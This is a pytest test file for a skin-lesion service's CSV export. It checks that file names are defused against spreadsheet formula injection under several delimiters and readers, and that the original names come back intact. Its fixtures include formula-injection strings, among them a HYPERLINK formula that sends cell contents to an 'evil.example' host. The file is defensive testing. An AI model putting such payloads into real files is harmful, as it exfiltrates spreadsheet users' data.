"""CSV that holds no formula for any reader, and gives every text back."""

import csv
import io
import random
import re
from pathlib import Path
from typing import Literal

import pandas as pd
import pytest

from src.exports import csv_rows
from src.exports.spreadsheet import CHOSEN_SEPARATORS, SEPARATORS, STARTS, Writer, defused, restored
from src.pictures import archive
from src.results.local_validation import parse_table
from src.service import batch
from src.tasks import TASKS

TASK = TASKS["skin"]
NAMES = [
    "plain.jpg",
    "ward 9, bed 4; left.jpg",
    "Smith's.jpg",
    'a;=HYPERLINK("http://evil.example/?"&A1;"open");x.jpg',
    *(f"a{separator}{start}1+1{separator}b.jpg" for separator in SEPARATORS for start in STARTS),
    *(f"{start}1+1.jpg" for start in STARTS),
    " =1+1.jpg",
    "'=1+1.jpg",
    "a; '=1+1.jpg",
    'a;"=1+1".jpg',
    ";;=1+1,\t-2\n@x",
    "=1;=2,=3|=4\t=5",
]
PARTED = {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}


def written(names: list[str]) -> str:
    """A CSV of pictures called so, every second refused."""
    out = io.StringIO()
    writer = Writer(out, csv_rows.columns(TASK))
    for number, name in enumerate(names):
        line = csv_rows.row(TASK, name, f"{name} is no picture.", 0.5)
        writer.write(line if number % 2 else {**line, "error": "", "p_malignant": "0.250000", "decision": "refer"})
    return out.getvalue()


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet would take for a formula, quotes that a reader has left aside."""
    return [cell for row in rows for cell in row if cell.lstrip(' "').startswith(tuple(STARTS))]


@pytest.mark.parametrize("delimiter", PARTED.values(), ids=PARTED)
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE], ids=["quotes", "no quotes"])
def test_no_reader_finds_a_formula(delimiter: str, quoting: Literal[0, 3]) -> None:
    lines = io.StringIO(written(NAMES), newline="")
    rows = list(csv.reader(lines, delimiter=delimiter, quoting=quoting))
    assert len(rows) > len(NAMES)
    assert formulas(rows) == []


@pytest.mark.parametrize("delimiter", CHOSEN_SEPARATORS)
def test_no_reader_finds_a_formula_at_a_separator_that_somebody_chooses(delimiter: str) -> None:
    names = [f"a{delimiter}{start}1+1{delimiter}b.jpg" for start in STARTS.replace("\t", "").replace("\r", "")]
    text = written(names)
    assert formulas([line.split(delimiter) for line in text.splitlines()]) == []
    assert formulas([name.split(delimiter) for name in names]), "without it there would be some"
    paths = [row["path"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert [restored(path) for path in paths] == names


@pytest.mark.parametrize("delimiter", PARTED.values(), ids=PARTED)
def test_pandas_finds_none_either(delimiter: str) -> None:
    read = pd.read_csv(
        io.StringIO(written(NAMES)), sep=delimiter, header=None, names=range(100), dtype=str, keep_default_na=False
    )
    assert formulas(read.fillna("").to_numpy().tolist()) == []


def test_a_reader_that_guesses_finds_none_either() -> None:
    for name in NAMES:
        text = written([name] * 4)
        dialect = csv.Sniffer().sniff(text, "".join(PARTED.values()))
        assert formulas(list(csv.reader(io.StringIO(text, newline=""), dialect))) == [], name


def test_without_it_they_would() -> None:
    plain = io.StringIO()
    csv.writer(plain).writerows([[name, "x"] for name in NAMES])
    for delimiter in PARTED.values():
        assert formulas(list(csv.reader(io.StringIO(plain.getvalue(), newline=""), delimiter=delimiter)))


def test_every_path_comes_back() -> None:
    text = written(NAMES)
    by_csv = [row["path"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    by_pandas = pd.read_csv(io.StringIO(text), keep_default_na=False)["path"].tolist()
    for paths in (by_csv, by_pandas):
        assert [Path(restored(path)) for path in paths] == [Path(name) for name in NAMES]


def test_random_texts_come_back() -> None:
    rng = random.Random(0)
    for _ in range(20_000):
        text = "".join(rng.choices(STARTS + SEPARATORS + CHOSEN_SEPARATORS + "' ab", k=rng.randrange(12)))
        assert restored(defused(text)) == text
        assert formulas([re.split(f"[{SEPARATORS}]", defused(text))]) == []
    for harmless in ("", "a-b.jpg", "a, b; c.jpg", "it's", "0.25", "x=y", "ward.zip/a/b.png", "scan - left.jpg"):
        assert defused(harmless) == harmless


def test_the_table_of_a_clinic_is_read_from_it() -> None:
    rows = list(csv.reader(io.StringIO(written(NAMES), newline="")))
    out = io.StringIO()
    csv.writer(out).writerows([[*row, "label" if number == 0 else "mel"] for number, row in enumerate(rows)])
    read = parse_table(out.getvalue(), TASK)
    assert len(read.scores) == (len(NAMES) + 1) // 2
    assert set(read.scores) == {0.25}
    assert read.unscored == len(NAMES) // 2


def test_every_cell_is_quoted_and_the_pages_csv_is_the_same() -> None:
    names = [archive.printable(name) for name in NAMES]
    rows = [batch.Row(line=csv_rows.row(TASK, name, f"{name} is no picture.", 0.5)) for name in names]
    text = batch.as_csv(TASK, rows, 0.5)
    assert text.splitlines()[0] == ",".join(f'"{column}"' for column in csv_rows.columns(TASK))
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    assert [restored(row["path"]).removeprefix("./") for row in csv.DictReader(text.splitlines())] == names
